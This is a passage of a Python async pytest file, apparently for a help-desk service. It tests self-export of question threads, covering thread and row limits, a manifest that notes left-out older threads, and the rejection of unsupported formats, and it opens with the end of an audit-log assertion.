    assert {entry.kind for entry in await store.read(f"audit:{viewer.id}")} == {"audit.denied"}


async def test_an_own_export_of_everything_holds_the_newest_that_fit_and_says_what_it_leaves_out(desk, monkeypatch):
    threads = [await asked(desk, ASKER, f"Question {n}", "And") for n in range(3)]
    monkeypatch.setattr(exports, "MAX_THREADS", 2)
    export = await desk.exports.export_own(ASKER, None, "jsonl")
    assert {line["id"] for line in records_of(export) if line["kind"] == "thread"} == {*threads[1:]}
    assert export.manifest.left_out.endswith("; older threads, which can be exported one by one: 1")
    with pytest.raises(InvalidInput, match="one by one"):
        await desk.exports.export_own(ASKER, threads, "jsonl")
    monkeypatch.setattr(exports, "MAX_ROWS", 3)
    assert (await desk.exports.export_own(ASKER, None, "html")).manifest.threads == 1
    with pytest.raises(InvalidInput, match="one by one"):
        await desk.exports.export_own(ASKER, threads[:2], "html")
    with pytest.raises(InvalidInput, match="csv"):
        await desk.exports.export_own(ASKER, None, "pdf")
